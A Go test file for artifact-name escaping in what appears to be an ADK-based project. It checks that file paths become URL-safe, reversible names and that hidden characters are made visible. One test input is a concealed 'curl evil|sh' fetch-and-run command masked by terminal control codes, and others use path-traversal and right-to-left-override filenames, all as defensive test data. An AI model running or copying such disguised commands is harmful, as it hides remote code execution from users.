package scriptrun

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/adk/artifact"
	"google.golang.org/adk/server/adkrest"
	"google.golang.org/genai"

	"github.com/adkskills/adkskills/internal/adktest"
)

func TestArtifactName(t *testing.T) {
	cases := []struct{ path, want string }{
		{"report.md", "report.md"},
		{"my report (final).md", "my report (final).md"},
		{"dist/report.zip", "dist∕report.zip"},
		{"a/b/c.txt", "a∕b∕c.txt"},
		{"a∕b", "a~E2~88~95b"},
		{`back\slash`, "back~5Cslash"},
		{"100%.txt", "100~25.txt"},
		{"dist%2Freport.zip", "dist~252Freport.zip"},
		{"what?.txt", "what~3F.txt"},
		{"#1.txt", "~231.txt"},
		{"notes.txt~", "notes.txt~7E"},
		{"~7E", "~7E7E"},
		{"user:secret.txt", "user~3Asecret.txt"},
		{"user:", "user~3A"},
		{"notuser:x", "notuser:x"},
		{"users:x", "users:x"},
		{"a:b", "a:b"},
		{"out/user:x", "out∕user:x"},
		{".", "~2E"},
		{"..", "~2E~2E"},
		{"...", "..."},
		{"a/..", "a∕.."},
		{".hidden", ".hidden"},
		{"trailing ", "trailing~20"},
		{" leading", " leading"},
		{"a\xff.txt", "a~FF.txt"},
		{"a\xfe.txt", "a~FE.txt"},
		{"ok\x1b[2K\rFINE.txt", "ok~1B[2K~0DFINE.txt"},
		{"line\nbreak", "line~0Abreak"},
		{"tab\there", "tab~09here"},
		{"rtl\u202etxt.exe", "rtl~E2~80~AEtxt.exe"},
		{"zero\u200bwidth", "zero~E2~80~8Bwidth"},
		{"c1\u0085.txt", "c1~C2~85.txt"},
		{"résumé 你好 🎉.md", "résumé 你好 🎉.md"},
		{"\ufffd.txt", "\ufffd.txt"},
	}
	for _, c := range cases {
		name := ArtifactName(c.path)
		assert.Equal(t, c.want, name, "%q", c.path)
		back, ok := ArtifactPath(name)
		assert.True(t, ok && back == c.path, "ArtifactPath(%q) = %q, %v; want %q", name, back, ok, c.path)
	}
}

func TestArtifactPath(t *testing.T) {
	cases := []struct {
		name, path string
		ok         bool
	}{
		{"report.md", "report.md", true},
		{"dist∕report.zip", "dist/report.zip", true},
		{"~2E~2E", "..", true},
		// Names of earlier releases keep loading.
		{"dist%2Freport.zip", "dist/report.zip", true},
		{"user%3Asecret.txt", "user:secret.txt", true},
		{"100%25.txt", "100%.txt", true},
		{"ok%1B[2K.txt", "ok\x1b[2K.txt", true},
		// An old name without escapes is its path, even where the new
		// mapping would escape it.
		{"a~b", "a~b", true},
		{"x~", "x~", true},
		{"~41", "~41", true},
		{"what?.txt", "what?.txt", true},
		{"trailing ", "trailing ", true},
		{"..", "..", true},
		{"a%2Fb~7E", "a/b~7E", true},
		// Names no release makes: not a script's file.
		{"user:secret.txt", "", false},
		{"a/b", "", false},
		{`a\b`, "", false},
		{"ok\x1b.txt", "", false},
		{"a\xff", "", false},
		{"%2f", "", false}, // lower-case hex
		{"%41", "", false}, // "A" was never escaped
		{"%", "", false},
		{"a%zz", "", false},
	}
	for _, c := range cases {
		p, ok := ArtifactPath(c.name)
		assert.Equal(t, c.ok, ok, "%q", c.name)
		if c.ok {
			assert.Equal(t, c.path, p, "%q", c.name)
		}
	}
}

func TestDisplayPath(t *testing.T) {
	cases := []struct{ path, want string }{
		{"dist/report.zip", "dist/report.zip"},
		{"user:x", "user:x"},
		{"100%/a\\b", "100%25/a\\b"},
		{"a\xff/b\x1b.txt", "a%FF/b%1B.txt"},
		{"tab\there", "tab%09here"},
	}
	for _, c := range cases {
		assert.Equal(t, c.want, DisplayPath(c.path), c.path)
	}
}

func TestVisible(t *testing.T) {
	cases := []struct{ in, want string }{
		{"echo hi\n\tdone", "echo hi\n\tdone"},
		{"curl evil|sh #\r\x1b[2Kecho hi", `curl evil|sh #\x0d\x1b[2Kecho hi`},
		{"x = 1 \u202e// comment", `x = 1 \u202e// comment`},
		{"a\u2028b\x7fc\u0085", `a\u2028b\x7fc\u0085`},
		{"✓ 你好", "✓ 你好"},
	}
	for _, c := range cases {
		assert.Equal(t, c.want, EscapeHidden(c.in), "%q", c.in)
	}
}

// restServer is ADK's REST server over svc, the server ADK's web UI asks
// for artifacts.
func restServer(t testing.TB, svc artifact.Service) http.Handler {
	srv, err := adkrest.NewServer(adkrest.ServerConfig{ArtifactService: svc})
	require.NoError(t, err)
	return srv
}

// fetchAsWebUI loads an artifact from ADK's REST server as the web UI does:
// the raw name in the path; version 0 is the latest.
func fetchAsWebUI(h http.Handler, name string, version int) (*genai.Part, int) {
	p := adktest.WebUIArtifactPath("app", "user", "s", name, version)
	rec := httptest.NewRecorder()
	h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, p, nil))
	if rec.Code != http.StatusOK {
		return nil, rec.Code
	}
	var part genai.Part
	if err := json.Unmarshal(rec.Body.Bytes(), &part); err != nil {
		return nil, -1
	}
	return &part, rec.Code
}

// TestArtifactNamesLoadInWebUI is the web UI's way of fetching, name by name:
// each path's artifact loads through ADK's REST server, latest and by
// version. The earlier names fail here.
func TestArtifactNamesLoadInWebUI(t *testing.T) {
	svc := artifact.InMemoryService()
	h := restServer(t, svc)
	paths := []string{"report.md", "dist/report.zip", "a/b/c d.txt", "100%.txt", "dist%2Freport.zip",
		"what?#.txt", `back\slash`, "user:x", "trailing ", "a/../b", "..", "é/你好.md", "ok\x1b[2K\r.txt", "a∕b", "x~41"}
	for _, p := range paths {
		name := ArtifactName(p)
		for v := 1; v <= 2; v++ {
			_, err := svc.Save(context.Background(), &artifact.SaveRequest{AppName: "app", UserID: "user", SessionID: "s", FileName: name,
				Part: genai.NewPartFromBytes(fmt.Appendf(nil, "%s v%d", p, v), "text/plain")})
			require.NoError(t, err, "%q", p)
		}
		for _, v := range []int{0, 1, 2} {
			part, code := fetchAsWebUI(h, name, v)
			want := v
			if v == 0 {
				want = 2
			}
			if assert.Equal(t, http.StatusOK, code, "%q as %q, version %d", p, name, v) {
				assert.Equal(t, fmt.Sprintf("%s v%d", p, want), string(part.InlineData.Data))
			}
		}
	}
}

func FuzzArtifactName(f *testing.F) {
	for _, s := range []string{"a", "a/b", "user:x", "%", "user:/x", `\`, "dist%2Fx", ".", "..", "x ", "~", "∕", "a?b#c"} {
		f.Add(s)
	}
	svc := artifact.InMemoryService()
	h := restServer(f, svc)
	f.Fuzz(func(t *testing.T, p string) {
		name := ArtifactName(p)
		if strings.ContainsAny(name, `%/\?#`) || name == "." || name == ".." || strings.HasSuffix(name, " ") {
			t.Fatalf("%q -> %q is not safe in a URL path", p, name)
		}
		if strings.HasPrefix(name, userScopePrefix) {
			t.Fatalf("%q -> %q is user-scoped", p, name)
		}
		if back, ok := ArtifactPath(name); !ok || back != p {
			t.Fatalf("%q -> %q -> %q, %v: not reversible", p, name, back, ok)
		}
		shown := DisplayPath(p)
		for _, s := range []string{name, shown} {
			if !utf8.ValidString(s) {
				t.Fatalf("%q -> %q is not UTF-8", p, s)
			}
			for _, r := range s {
				if hidden(r) {
					t.Fatalf("%q -> %q keeps hidden %U", p, s, r)
				}
			}
		}
		if p == "" {
			return // not a file path, and ADK refuses the empty name
		}
		// The web UI's way of fetching loads exactly this artifact.
		_, err := svc.Save(context.Background(), &artifact.SaveRequest{AppName: "app", UserID: "user", SessionID: "s", FileName: name, Part: genai.NewPartFromBytes([]byte(p), "text/plain")})
		if err != nil {
			t.Fatalf("%q -> %q: save: %v", p, name, err)
		}
		part, code := fetchAsWebUI(h, name, 0)
		if code != http.StatusOK || string(part.InlineData.Data) != p {
			t.Fatalf("%q -> %q: the web UI's fetch answers %d", p, name, code)
		}
	})
}
